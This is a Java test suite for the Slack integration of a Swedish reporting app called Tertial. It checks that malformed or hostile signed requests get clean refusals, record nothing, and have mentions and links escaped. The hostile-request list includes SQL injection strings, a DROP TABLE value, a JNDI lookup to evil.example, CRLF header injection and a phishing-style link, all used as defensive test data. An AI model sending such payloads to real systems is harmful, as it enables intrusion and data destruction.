package se.ange.tertial.chat.slack;

import static com.github.tomakehurst.wiremock.client.WireMock.okJson;
import static com.github.tomakehurst.wiremock.client.WireMock.post;
import static com.github.tomakehurst.wiremock.client.WireMock.urlPathEqualTo;
import static com.github.tomakehurst.wiremock.core.WireMockConfiguration.options;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.github.tomakehurst.wiremock.WireMockServer;
import io.micronaut.data.jdbc.runtime.JdbcOperations;
import io.micronaut.http.MediaType;
import io.micronaut.http.client.HttpClient;
import io.micronaut.http.client.annotation.Client;
import io.micronaut.runtime.server.EmbeddedServer;
import io.micronaut.test.extensions.junit5.annotation.MicronautTest;
import io.micronaut.test.support.TestPropertyProvider;
import io.micronaut.transaction.TransactionOperations;
import jakarta.inject.Inject;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.sql.Connection;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import javax.sql.DataSource;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import se.ange.tertial.support.Api;
import se.ange.tertial.support.Fixtures;
import se.ange.tertial.support.TestDatabase;

/**
 * Correctly signed Slack requests that Tertial cannot read: never a 500, a 400 (or a friendly message) naming
 * what is wrong, and nothing recorded. Also: the {@code text} fallback is escaped like the blocks.
 */
@MicronautTest(environments = "test", transactional = false)
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class SlackMalformedRequestsTest implements TestPropertyProvider {

    private static final String FORM = MediaType.APPLICATION_FORM_URLENCODED;
    private static final String JSON = MediaType.APPLICATION_JSON;
    private static final String CHOICE = "999|KS2024-002|2024-T1|PAGAENDE_ENLIGT_PLAN";

    private final WireMockServer slackApi = new WireMockServer(options().dynamicPort());
    private final ObjectMapper json = new ObjectMapper();

    @Inject
    @Client("/")
    HttpClient client;

    @Inject
    EmbeddedServer server;

    @Inject
    DataSource dataSource;

    @Inject
    JdbcOperations jdbc;

    @Inject
    TransactionOperations<Connection> transactions;

    private SignedSlack slack;

    @Override
    public Map<String, String> getProperties() {
        slackApi.start();
        slackApi.stubFor(post(urlPathEqualTo("/api/auth.test")).willReturn(okJson(
                "{\"ok\":true,\"team_id\":\"T1\",\"user_id\":\"UBOT\",\"bot_id\":\"B1\"}")));
        slackApi.stubFor(post(urlPathEqualTo("/api/users.info")).willReturn(okJson("{\"ok\":false,\"error\":\"user_not_found\"}")));
        slackApi.stubFor(post(urlPathEqualTo("/api/views.open")).willReturn(okJson("{\"ok\":true}")));
        slackApi.stubFor(post(urlPathEqualTo("/api/chat.update")).willReturn(okJson("{\"ok\":true}")));
        slackApi.stubFor(post(urlPathEqualTo("/respond")).willReturn(okJson("{\"ok\":true}")));
        return Map.of("tertial.slack.signing-secret", SignedSlack.SECRET, "tertial.slack.bot-token", "test-bot-token",
                "tertial.slack.api-url", slackApi.baseUrl() + "/api/", "tertial.test.clock", "2024-03-28T06:00:00Z");
    }

    @AfterAll
    void stop() {
        slackApi.stop();
    }

    @BeforeAll
    void register() {
        TestDatabase.clear(dataSource);
        Api admin = new Api(client.toBlocking(), Api.BOOTSTRAP_ADMIN);
        admin.postCsv("/api/import/people", Fixtures.people());
        admin.withNewToken("stab", "STAB", null).postCsv("/api/import/activities", Fixtures.plan2024());
        slack = new SignedSlack(server);
    }

    /** Several cases send the same body within one second: without this they would be replays of each other. */
    @BeforeEach
    void forgetHandledRequests() {
        transactions.executeWrite(status -> jdbc.prepareStatement("DELETE FROM slack_request_seen", s -> s.executeUpdate()));
    }

    private int rows(String table) {
        Integer count = transactions.executeRead(status -> jdbc.prepareStatement("SELECT COUNT(*) FROM " + table, s -> {
            try (var result = s.executeQuery()) {
                result.next();
                return result.getInt(1);
            }
        }));
        return count;
    }

    private static String modal(String metadata) {
        return """
                {"type":"view_submission","team":{"id":"T1"},"api_app_id":"A1","token":"x","user":{"id":"U05OWN0001"},
                 "view":{"id":"V1","type":"modal","callback_id":"report_comment","private_metadata":%s,
                   "state":{"values":{"comment":{"comment_input":{"type":"plain_text_input","value":"En kommentar"}}}}}}"""
                .formatted(metadata == null ? "null" : quoted(metadata));
    }

    private static String modalWithState(String state) {
        return """
                {"type":"view_submission","team":{"id":"T1"},"api_app_id":"A1","token":"x","user":{"id":"U05OWN0001"},
                 "view":{"id":"V1","type":"modal","callback_id":"report_comment","private_metadata":"%s|D1|111.222"%s}}"""
                .formatted(CHOICE, state == null ? "" : ",\"state\":" + state);
    }

    private static String choice(String value) {
        return """
                {"type":"block_actions","team":{"id":"T1"},"api_app_id":"A1","token":"x","trigger_id":"trigger-1",
                 "user":{"id":"U05OWN0001"},"container":{"type":"message","channel_id":"D1","message_ts":"111.222"},
                 "actions":[{"type":"static_select","action_id":"report_status","block_id":"activity-KS2024-002",
                   "selected_option":{"text":{"type":"plain_text","text":"2"},"value":%s},"action_ts":"1"}]}"""
                .formatted(value == null ? "null" : quoted(value));
    }

    private static String quoted(String text) {
        try {
            return new ObjectMapper().writeValueAsString(text);
        } catch (com.fasterxml.jackson.core.JsonProcessingException e) {
            throw new IllegalStateException(e);
        }
    }

    private void assertRefusedAndNothingRecorded(SignedSlack.Answer answer, String reason) {
        assertThat(answer.status()).as(answer.body()).isEqualTo(400);
        assertThat(answer.body()).contains(SlackMalformed.PREFIX).contains(reason).contains("Inget har registrerats");
    }

    // ---- the shapes named in the issue ----------------------------------------------------------------------

    @ParameterizedTest
    @ValueSource(strings = {"", "1|X", "999|KS2024-002|2024-T1|PAGAENDE_ENLIGT_PLAN", "999|KS2024-002|2024-T1|PAGAENDE_ENLIGT_PLAN|D1|"})
    void a_modal_whose_private_metadata_tertial_did_not_write_is_a_400(String metadata) {
        int reports = rows("status_report");
        int kept = rows("chat_record");
        assertRefusedAndNothingRecorded(slack.send(SignedSlack.interaction(modal(metadata)), FORM), "rutan är inte en som Tertial har öppnat");
        assertThat(rows("status_report")).isEqualTo(reports);
        assertThat(rows("chat_record")).isEqualTo(kept);
    }

    @Test
    void a_modal_without_private_metadata_is_a_400() {
        assertRefusedAndNothingRecorded(slack.send(SignedSlack.interaction(modal(null)), FORM), "rutan är inte en som Tertial har öppnat");
    }

    @Test
    void an_unknown_status_is_a_400_naming_it() {
        assertRefusedAndNothingRecorded(slack.send(SignedSlack.interaction(
                modal("999|KS2024-002|2024-T1|KLAR_ELLER_INTE|D1|111.222")), FORM), "statusen \"KLAR_ELLER_INTE\" finns inte");
        assertRefusedAndNothingRecorded(slack.send(SignedSlack.interaction(
                choice("999|KS2024-002|2024-T1|KLAR_ELLER_INTE")), FORM), "statusen \"KLAR_ELLER_INTE\" finns inte");
    }

    @Test
    void an_unknown_tertial_is_a_400_naming_it() {
        assertRefusedAndNothingRecorded(slack.send(SignedSlack.interaction(
                modal("999|KS2024-002|2024-T9|PAGAENDE_ENLIGT_PLAN|D1|111.222")), FORM), "tertialen \"2024-T9\" finns inte");
        assertRefusedAndNothingRecorded(slack.send(SignedSlack.interaction(
                choice("999|KS2024-002|T1|PAGAENDE_ENLIGT_PLAN")), FORM), "tertialen \"T1\" finns inte");
    }

    @Test
    void a_tertial_that_has_not_begun_gets_a_friendly_message_in_the_modal() {
        int reports = rows("status_report");
        SignedSlack.Answer answer = slack.send(SignedSlack.interaction(
                modal("999|KS2024-002|2099-T1|PAGAENDE_ENLIGT_PLAN|D1|111.222")), FORM);
        assertThat(answer.status()).isEqualTo(200);
        assertThat(answer.body()).contains("\"response_action\":\"errors\"").contains("har inte börjat");
        assertThat(rows("status_report")).isEqualTo(reports);
    }

    @Test
    void a_comment_longer_than_the_column_gets_a_friendly_message_in_the_modal() {
        int reports = rows("status_report");
        SignedSlack.Answer answer = slack.send(SignedSlack.interaction(modalWithState(
                "{\"values\":{\"comment\":{\"comment_input\":{\"type\":\"plain_text_input\",\"value\":\""
                        + "å".repeat(8001) + "\"}}}}")), FORM);
        assertThat(answer.status()).isEqualTo(200);
        assertThat(answer.body()).contains("\"response_action\":\"errors\"").contains("Kommentaren är för lång");
        assertThat(rows("status_report")).isEqualTo(reports);
    }

    @Test
    void a_modal_without_its_blocks_is_a_400() {
        assertRefusedAndNothingRecorded(slack.send(SignedSlack.interaction(modalWithState(null)), FORM), "fältet för kommentaren");
        assertRefusedAndNothingRecorded(slack.send(SignedSlack.interaction(modalWithState("{\"values\":{}}")), FORM),
                "fältet för kommentaren");
        assertRefusedAndNothingRecorded(slack.send(SignedSlack.interaction(modalWithState("{\"values\":{\"comment\":{}}}")), FORM),
                "fältet för kommentaren");
    }

    @Test
    void a_payload_that_is_not_json_is_a_400() {
        assertRefusedAndNothingRecorded(slack.send("payload=%7Bnot-json", FORM), "innehållet gick inte att läsa");
    }

    @Test
    void a_reminder_choice_tertial_did_not_write_is_a_400() {
        assertRefusedAndNothingRecorded(slack.send(SignedSlack.interaction(choice("1|X")), FORM), "statusvalet är inte ett som Tertial har skickat");
        assertRefusedAndNothingRecorded(slack.send(SignedSlack.interaction(choice("")), FORM), "statusvalet är inte ett som Tertial har skickat");
        assertRefusedAndNothingRecorded(slack.send(SignedSlack.interaction(choice("x|KS2024-002|2024-T1|PAGAENDE_ENLIGT_PLAN")), FORM),
                "statusvalet hör inte till någon påminnelse");
    }

    // ---- the text fallback ----------------------------------------------------------------------------------

    @Test
    void the_text_fallback_is_escaped_like_the_blocks() throws Exception {
        String hostile = "<!channel> läs <https://evil.example/login|intranätet> och fråga <@U0ADMIN01> & <!here>";
        SignedSlack.Answer answer = slack.send(SignedSlack.command("U05OWN0001", "status KS2024-002 2: " + hostile), FORM);

        assertThat(answer.status()).isEqualTo(200);
        JsonNode message = json.readTree(answer.body());
        String text = message.path("text").asText();
        assertThat(text).contains("Tack! Registrerat")
                .contains("&lt;!channel&gt; läs &lt;https://evil.example/login|intranätet&gt; och fråga &lt;@U0ADMIN01&gt; &amp; &lt;!here&gt;")
                .doesNotContain("<!channel>").doesNotContain("<!here>").doesNotContain("<@U0ADMIN01>")
                .doesNotContain("<https://");
        // the blocks said the same already: one escape for both
        assertThat(message.path("blocks").toString()).contains("&lt;!channel&gt;").doesNotContain("<!channel>");
    }

    @Test
    void the_text_fallback_escapes_what_the_shared_escape_escapes() {
        assertThat(SlackBlocks.fallback(se.ange.tertial.command.Reply.of("<!channel>", "<@U1> <https://x.example|y> &")))
                .isEqualTo("&lt;!channel&gt;\n&lt;@U1&gt; &lt;https://x.example|y&gt; &amp;");
    }

    // ---- many hostile requests, all signed ------------------------------------------------------------------

    /** One hostile request: what it is, its body and content type. */
    record Hostile(String name, String body, String contentType, boolean command) {
        Hostile(String name, String body, String contentType) {
            this(name, body, contentType, false);
        }

        @Override
        public String toString() {
            return name;
        }
    }

    static Stream<Hostile> hostile() {
        List<Hostile> cases = new ArrayList<>();
        // slash commands with odd text
        String[] texts = {"", " ", "status", "status KS2024-002", "status KS2024-002 9: x", "status KS2024-002 0",
            "status KS2024-002 -1: x", "status KS2024-002 2", "status KS9999-999 2: x", "status ' OR 1=1 -- 2: x",
            "status KS2024-002; DROP TABLE status_report; 2", "<!channel>", "\u0000\u0001\u0002", "\uD83D\uDE00".repeat(2000),
            "a".repeat(200_000), "mina " + "x".repeat(50_000), "försenade " + "ö".repeat(10_000), "hjälp\r\nX-Injected: 1",
            "%s%s%s%n", "${jndi:ldap://evil.example/a}", "status KS2024-002 2\u202e: x", "status\tKS2024-002\t2", "💥 status"};
        for (int i = 0; i < texts.length; i++) {
            cases.add(new Hostile("command text #" + i + " (" + texts[i].length() + " chars)",
                    SignedSlack.command("U0UNKNOWN1", texts[i]), FORM, true));
        }
        cases.add(new Hostile("command from an empty user id", SignedSlack.command("", "mina"), FORM));
        cases.add(new Hostile("command from a 50k user id", SignedSlack.command("U".repeat(50_000), "mina"), FORM));
        cases.add(new Hostile("command from a user id with quotes", SignedSlack.command("U' OR '1'='1", "mina"), FORM));
        cases.add(new Hostile("another command name", SignedSlack.command("U05OWN0001", "mina").replace("%2Ftertial", "%2Fother"), FORM));
        cases.add(new Hostile("command without a command field", "user_id=U05OWN0001&text=mina", FORM));
        cases.add(new Hostile("command with bad percent-encoding", "command=%2Ftertial&user_id=U05OWN0001&text=%ZZ%", FORM));
        cases.add(new Hostile("command with every field twice",
                SignedSlack.command("U05OWN0001", "mina") + "&" + SignedSlack.command("U0OTHER001", "status KS2024-002 2"), FORM, true));
        cases.add(new Hostile("form with nothing in it", "", FORM));
        cases.add(new Hostile("form of ampersands", "&&&&&&=&=&", FORM));

        // interactivity payloads of every malformed shape
        String[] payloads = {"{not-json", "", "null", "[]", "\"text\"", "42", "{}", "{\"type\":null}", "{\"type\":{}}",
            "{\"type\":\"something_else\"}", "{\"type\":\"block_actions\"}", "{\"type\":\"block_actions\",\"actions\":[]}",
            "{\"type\":\"block_actions\",\"actions\":[{\"action_id\":\"report_status\"}]}",
            "{\"type\":\"block_actions\",\"user\":{\"id\":\"U05OWN0001\"},\"actions\":[{\"action_id\":\"report_status\",\"type\":\"static_select\"}]}",
            "{\"type\":\"view_submission\"}", "{\"type\":\"view_submission\",\"view\":{}}", "{\"type\":\"view_submission\",\"view\":[]}",
            "{\"type\":\"view_submission\",\"view\":{\"type\":\"modal\"}}",
            "{\"type\":\"view_submission\",\"view\":{\"type\":\"modal\",\"callback_id\":\"report_comment\"}}",
            "{\"type\":\"view_submission\",\"user\":{\"id\":\"U05OWN0001\"},\"view\":{\"type\":\"modal\",\"callback_id\":\"report_comment\",\"private_metadata\":\"|||||\"}}",
            "{\"type\":\"event_callback\"}", "{\"type\":\"event_callback\",\"event\":{}}", "{\"type\":\"view_closed\"}",
            "{\"type\":\"shortcut\",\"callback_id\":\"x\"}", "{\"type\":\"message_action\"}", "{\"type\":\"block_suggestion\"}",
            "[".repeat(5_000), "{\"a\":".repeat(5_000)};
        for (int i = 0; i < payloads.length; i++) {
            cases.add(new Hostile("payload #" + i + " " + payloads[i].substring(0, Math.min(40, payloads[i].length())),
                    SignedSlack.interaction(payloads[i]), FORM));
        }
        cases.add(new Hostile("payload=%7Bnot-json", "payload=%7Bnot-json", FORM));
        cases.add(new Hostile("payload of a bad percent-encoding", "payload=%7B%ZZ", FORM));
        for (String value : new String[] {"", "1|X", "|||", "1|KS2024-002|2024-T1|", "1|KS2024-002|2024-T1|NOPE",
            "1|KS2024-002|2024-T9|PAGAENDE_ENLIGT_PLAN", "1|KS2024-002|2024-T1|PAGAENDE_ENLIGT_PLAN|extra",
            "99999999999999999999999|KS2024-002|2024-T1|PAGAENDE_ENLIGT_PLAN", "1|" + "K".repeat(10_000) + "|2024-T1|KLAR"}) {
            cases.add(new Hostile("reminder choice '" + value.substring(0, Math.min(40, value.length())) + "'",
                    SignedSlack.interaction(choice(value)), FORM));
        }
        cases.add(new Hostile("reminder choice without a value", SignedSlack.interaction(choice(null)), FORM));
        for (String metadata : new String[] {"", "1|X", "||||||", CHOICE, CHOICE + "|D1", CHOICE + "|D1|1.2|more",
            "999|KS2024-002|2024-T1|NOPE|D1|1.2", "999|KS2024-002|1999|PAGAENDE_ENLIGT_PLAN|D1|1.2",
            "x|KS2024-002|2024-T1|PAGAENDE_ENLIGT_PLAN|D1|1.2", "1|" + "X".repeat(100_000)}) {
            cases.add(new Hostile("modal metadata '" + metadata.substring(0, Math.min(40, metadata.length())) + "'",
                    SignedSlack.interaction(modal(metadata)), FORM));
        }
        cases.add(new Hostile("modal without metadata", SignedSlack.interaction(modal(null)), FORM));
        for (String state : new String[] {null, "null", "{}", "{\"values\":null}", "{\"values\":{}}", "{\"values\":{\"comment\":{}}}",
            "{\"values\":{\"comment\":null}}", "{\"values\":[]}"}) {
            cases.add(new Hostile("modal state " + state, SignedSlack.interaction(modalWithState(state)), FORM));
        }

        // wrong content types
        String command = SignedSlack.command("U05OWN0001", "mina");
        for (String type : new String[] {"text/plain", "application/xml", "application/octet-stream", "multipart/form-data; boundary=x",
            "text/html", "image/png", "application/x-www-form-urlencoded; charset=utf-16", "nonsense", "*/*"}) {
            cases.add(new Hostile("content type " + type, command, type));
        }
        cases.add(new Hostile("no content type", command, null));
        cases.add(new Hostile("a form as JSON", command, JSON));
        cases.add(new Hostile("JSON as a form", "{\"type\":\"url_verification\",\"challenge\":\"x\"}", FORM));
        cases.add(new Hostile("JSON of nothing", "", JSON));
        cases.add(new Hostile("JSON array", "[1,2,3]", JSON));
        cases.add(new Hostile("JSON without a type", "{\"challenge\":\"x\"}", JSON));
        cases.add(new Hostile("JSON event without an event", "{\"type\":\"event_callback\",\"event\":null}", JSON));
        cases.add(new Hostile("JSON that breaks off", "{\"type\":\"url_verification\",", JSON));

        // oversize fields
        cases.add(new Hostile("a 300k comment in a modal", SignedSlack.interaction(modalWithState(
                "{\"values\":{\"comment\":{\"comment_input\":{\"type\":\"plain_text_input\",\"value\":\"" + "x".repeat(300_000) + "\"}}}}")
                .replace("PAGAENDE_ENLIGT_PLAN|D1", "NOPE|D1")), FORM));
        cases.add(new Hostile("a 1 MB payload of one string", SignedSlack.interaction("\"" + "y".repeat(1_000_000) + "\""), FORM));
        cases.add(new Hostile("a 1 MB form field", "payload2=" + "z".repeat(1_000_000), FORM));
        cases.add(new Hostile("a thousand form fields", "a=1&".repeat(1_000) + SignedSlack.command("U05OWN0001", "mina"), FORM));
        return cases.stream();
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("hostile")
    void a_signed_hostile_request_is_never_a_server_error_and_records_nothing(Hostile request) {
        int reports = rows("status_report");
        int kept = rows("chat_record");
        int audited = rows("audit_log");

        SignedSlack.Answer answer = slack.send(request.body(), request.contentType());

        assertThat(answer.status()).as("%s answered %s", request.name(), answer.body()).isBetween(200, 499);
        if (answer.status() == 400) {
            assertThat(answer.body()).as("a refusal says what was wrong").isNotBlank();
        }
        // no exception swallowed and passed off as "something went wrong" or "Slack cannot be reached"
        assertThat(answer.body()).as("%s answered", request.name())
                .doesNotContain("Något gick fel").doesNotContain(SlackEventsController.UNAVAILABLE);
        assertThat(rows("status_report")).as("status reports after %s", request.name()).isEqualTo(reports);
        if (!request.command()) {
            // a status report by slash command is kept as received even when it is refused (unknown person,
            // activity or status): that is the record of what was said, not a report. Nothing else is kept.
            assertThat(rows("chat_record")).as("kept chat messages after %s", request.name()).isEqualTo(kept);
        }
        assertThat(rows("audit_log")).as("audit entries after %s", request.name()).isEqualTo(audited);
    }

    @Test
    void there_are_at_least_sixty_hostile_requests() {
        assertThat(hostile().count()).isGreaterThanOrEqualTo(60);
    }
}
